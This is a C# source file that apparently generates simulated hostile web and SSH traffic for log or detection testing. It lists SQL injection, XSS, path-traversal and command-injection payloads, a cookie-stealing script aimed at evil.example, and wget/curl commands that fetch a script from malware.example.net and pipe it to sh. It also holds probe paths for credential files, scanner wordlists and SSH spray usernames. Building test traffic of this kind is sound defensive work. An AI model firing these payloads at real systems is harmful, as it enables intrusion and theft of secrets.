namespace Haris.Simulation;

/// <summary>Attack strings, as they appear in an nginx request line (spaces as <c>+</c> or <c>%20</c>; nginx writes a raw backslash as <c>\x5C</c>).</summary>
internal static class Payloads
{
    public static readonly string[] SqlInjection =
    [
        "1'+OR+'1'='1", "1%27%20OR%20%271%27%3D%271", "1+UNION+SELECT+NULL,NULL,NULL--", "-1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "1'+AND+sleep(5)--+-", "1%27%20AND%20SLEEP(5)%23", "1'+order+by+1--", "1%27%20ORDER%20BY%2010--%20-",
        "1+AND+1=(SELECT+COUNT(*)+FROM+information_schema.tables)", "1'+UNION+SELECT+table_name+FROM+information_schema.tables--",
        "admin'--", "1;WAITFOR+DELAY+'0:0:5'--", "1'+AND+extractvalue(1,concat(0x7e,version()))--", "'+or+1=1%23",
        "1)+UNION+ALL+SELECT+@@version--", "1%27%29%20OR%20%28%271%27%3D%271", "1+AND+benchmark(5000000,md5(1))",
    ];

    public static readonly string[] Xss =
    [
        "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
        "%22%3E%3Csvg/onload=alert(document.domain)%3E", "javascript:alert(1)", "javascript%3Aalert%28document.cookie%29",
        "<img+src=x+onerror=alert(1)>", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "%3Cbody%20onload%3Dalert(1)%3E",
        "%27%3E%3Cscript%3Edocument.location%3D%27http://evil.example/c?%27%2Bdocument.cookie%3C/script%3E",
    ];

    public static readonly string[] PathTraversal =
    [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..\\x5C..\\x5C..\\x5Cwindows\\x5Cwin.ini", "..%5c..%5c..%5cwindows%5cwin.ini", "....//....//....//etc/passwd",
        "%252e%252e%252f%252e%252e%252fetc%252fshadow", "../../../../../../proc/self/environ", "..%2F..%2F..%2F..%2Fboot.ini",
    ];

    public static readonly string[] CommandInjection =
    [
        ";id", "|whoami", "$(cat%20/etc/passwd)", "`id`", "%60whoami%60", "%3Bcat%20%2Fetc%2Fpasswd", "%7Cid",
        ";wget+http://malware.example.net/x.sh+-O+/tmp/x.sh", "%3Bcurl%20http%3A%2F%2Fmalware.example.net%2Fx.sh%7Csh",
        "127.0.0.1;uname+-a", "127.0.0.1%26%26id", "$(id)",
    ];

    public static readonly string[] SensitiveFiles =
    [
        "/.env", "/.git/config", "/.git/HEAD", "/backup.zip", "/site.tar.gz", "/db.sql", "/server-status", "/wp-config.php.bak",
        "/.aws/credentials", "/.DS_Store", "/phpinfo.php", "/.env.local", "/.env.production", "/.git/index", "/.svn/entries",
        "/.htpasswd", "/backup.sql", "/dump.sql", "/.vscode/sftp.json", "/web.config", "/config.php.bak", "/.ssh/id_rsa",
        "/.docker/config.json", "/.npmrc", "/app.tar.gz", "/database.sql.gz", "/api/.env", "/admin/.env", "/.git/logs/HEAD",
        "/storage/logs/laravel.log", "/config/database.yml", "/wp-config.php~", "/.bash_history", "/credentials.json",
        "/.well-known/../.env", "/old/backup.tar", "/www.zip", "/_profiler/phpinfo", "/info.php", "/server-info",
    ];

    // The head of a scanner wordlist: what Nikto, dirb and Nuclei templates ask first.
    public static readonly string[] ScannerPaths =
    [
        "/admin/", "/administrator/", "/phpmyadmin/", "/pma/", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/cgi-bin/test.cgi",
        "/cgi-bin/php.cgi", "/api/swagger.json", "/swagger-ui.html", "/v2/api-docs", "/actuator/health", "/actuator/env",
        "/console/", "/manager/html", "/solr/", "/jenkins/", "/login.action", "/user/login", "/admin.php", "/config.json",
        "/.well-known/security.txt", "/graphql", "/api/graphql", "/debug/pprof/", "/telescope/requests", "/elmah.axd",
        "/trace.axd", "/owa/", "/remote/login", "/vpn/index.html", "/global-protect/login.esp", "/hudson", "/struts2-showcase/",
        "/examples/servlets/", "/install.php", "/setup.php", "/upgrade.php", "/test.php", "/shell.php", "/cmd.php", "/upload.php",
    ];

    public static readonly string[] ScannerWords =
    [
        "admin", "backup", "test", "old", "dev", "staging", "config", "db", "database", "login", "panel", "private", "tmp",
        "temp", "upload", "uploads", "files", "data", "api", "v1", "internal", "secret", "portal", "cms", "shop", "beta",
        "debug", "logs", "log", "include", "inc", "lib", "vendor", "scripts", "cgi", "bin", "user", "users", "account",
        "dashboard", "report", "reports", "export", "import", "cron", "mail", "webmail", "server", "status", "info",
    ];

    public static readonly string[] ScannerExtensions = [".php", "/", ".bak", ".old", ".zip", ".asp", ".aspx", ".jsp", ".txt", ".sql", ".conf", ".inc"];

    public static readonly string[] SshSprayUsers =
    [
        "admin", "test", "user", "guest", "oracle", "postgres", "git", "ftp", "pi", "support", "dev", "jenkins", "hadoop",
        "nagios", "mysql", "tomcat", "ftpuser", "deployer", "minecraft", "teamspeak", "ts3", "steam", "zabbix", "elastic",
        "kafka", "redis", "docker", "ansible", "vagrant", "centos", "debian", "alex", "john", "mike", "web", "www", "backup",
        "operator", "sysadmin", "student", "server", "odoo", "gitlab", "sftp", "odroid", "apache", "nginx", "ubnt", "usuario",
    ];

    /// <summary>Spray user names that exist on most servers; sshd logs them without "invalid user".</summary>
    public static readonly string[] SshExistingUsers = ["root", "ubuntu"];

    public static readonly Signature[] StormSignatures =
    [
        new(2009358, 6, "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)", "Web Application Attack", 1),
        new(2024364, 4, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1),
        new(2010937, 3, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 2),
        new(2010939, 3, "ET SCAN Suspicious inbound to PostgreSQL port 5432", "Potentially Bad Traffic", 2),
        new(2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2),
        new(2034647, 2, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1),
        new(2036546, 1, "ET EXPLOIT F5 BIG-IP iControl REST Authentication Bypass (CVE-2022-1388)", "Attempted Administrator Privilege Gain", 1),
        new(2100498, 7, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2),
    ];
}
